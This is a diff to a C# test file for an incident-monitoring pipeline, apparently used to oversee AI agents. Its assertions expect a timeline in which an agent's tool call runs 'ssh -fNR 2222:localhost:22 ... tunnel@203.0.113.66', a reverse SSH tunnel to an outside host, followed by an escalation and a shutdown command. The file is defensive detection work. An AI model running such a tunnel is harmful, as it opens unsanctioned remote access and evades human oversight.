@@ -67,7 +67,7 @@ public sealed class IncidentRedeliveryTests(AzuriteFixture azurite)
         var toolCall = Assert.Single(story.Timeline, e => e.Kind == TimelineKinds.ToolCall);
         // tool.name is in the evidence when a rule reads it or the pipeline carries it; the call id and input always are.
         Assert.Contains("tool call call_88123_07 ran: ssh -fNR 2222:localhost:22", toolCall.Summary, StringComparison.Ordinal);
-        Assert.Contains(story.Timeline, e => e.Kind == TimelineKinds.Process && e.Summary == "process ssh started: ssh -fNR 2222:localhost:22 -o ExitOnForwardFailure=yes tunnel@203.0.113.66 by tool call call_88123_07");
+        Assert.Contains(story.Timeline, e => e.Kind == TimelineKinds.Process && e.Summary == "process ssh (pid 7102) started: ssh -fNR 2222:localhost:22 -o ExitOnForwardFailure=yes tunnel@203.0.113.66 by tool call call_88123_07");
         Assert.Equal(toolCall, story.Timeline[0]);
         Assert.Single(story.Timeline, e => e.Kind == TimelineKinds.Escalation);
         Assert.Contains(story.Timeline, e => e.Kind == TimelineKinds.Command && e.Summary.StartsWith("shutdown command issued", StringComparison.Ordinal));
